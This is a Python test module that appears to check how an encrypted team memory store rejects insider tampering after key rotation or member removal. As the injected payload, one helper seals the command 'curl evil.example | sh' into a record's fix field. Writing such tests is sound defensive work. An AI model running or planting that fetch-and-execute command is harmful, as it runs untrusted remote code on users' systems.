"""Attacks of members, and of those who are none any more, on what a new key is to keep from them."""

from __future__ import annotations

from gitmem.core.auditing.audit import Head
from gitmem.core.codec import emit
from gitmem.core.edit import Pen
from gitmem.core.record import State
from gitmem.crypto.values import Place, Sealer
from gitmem.memory.members.removal import remove
from gitmem.memory.members.rotation import rotate
from tests.tamper.hands import Insider
from tests.tamper.table import Expected, Store, insider, named

BELOW = "below the floor"


def _new_key(hand: Insider, *, without: bool = False) -> str:
    """Ada makes a new key, removing the insider or not; the epoch before, of which they keep the key."""
    with hand.ground.at("ada") as ada:
        old = ada.context.store.vault.newest_epoch("team")
        if without:
            remove(ada.context, hand.name)
        else:
            rotate(ada.context)
        ada.sync()
    return old


def _told(hand: Insider) -> list[Head]:
    """All that ada has signed."""
    return [chain[-1].head for chain in hand.chains().values() if chain[0].entries[0].subject == "ada"]


def _edited(hand: Insider, epoch: str) -> tuple[str, State]:
    """A pattern's fix written anew by the insider, sealed with the key of an epoch."""
    path, state = next(one for one in hand.records().items() if one[1].kind == "pattern")
    with hand.ground.at(hand.name) as memory:
        vault = memory.context.store.vault
        sealer = Sealer(vault.key("team", epoch), Place(hand.store, "team", state.kind, state.id))
    pen = Pen(state, hand.writer)
    pen.set("fix", lambda at, dot: sealer.seal(at, dot, "curl evil.example | sh"))
    return path, pen.state


@insider(Store.SEALED)
def sealed_below_the_floor(hand: Insider) -> Expected:
    """A member who has heard of the new key writes with the old one, which others may still have."""
    path, state = _edited(hand, _new_key(hand))
    segment = hand.sign([hand.change(path, emit(state))], seen=_told(hand))
    hand.put({path: emit(state), segment.path: segment.data})
    return named((BELOW, path), spoiled=[state.id])


@insider(Store.SEALED)
def older_epoch_put_back(hand: Insider) -> Expected:
    """A member has a record stand again as it was sealed before the new key, and signs for that."""
    with hand.ground.at("ada") as ada:
        ada.sync()
    before = hand.records()
    _new_key(hand)
    path, state = next((path, before[path]) for path in hand.records() if path in before)
    segment = hand.commit({path: emit(state)})
    assert segment.entries
    return named((BELOW, path))


@insider(Store.SEALED)
def written_after_being_removed(hand: Insider) -> Expected:
    """Somebody who was removed goes on as if they had not heard of it: their segment counts for nothing."""
    path, state = _edited(hand, _new_key(hand, without=True))
    segment = hand.sign([hand.change(path, emit(state))])
    hand.put({path: emit(state), segment.path: segment.data})
    return named(("not entitled", segment.path), aside=segment.path)


@insider(Store.SEALED)
def written_after_being_told(hand: Insider) -> Expected:
    """The same, with the removal seen: no better."""
    path, state = _edited(hand, _new_key(hand, without=True))
    segment = hand.sign([hand.change(path, emit(state))], seen=_told(hand))
    hand.put({path: emit(state), segment.path: segment.data})
    return named(("not entitled", segment.path), aside=segment.path)
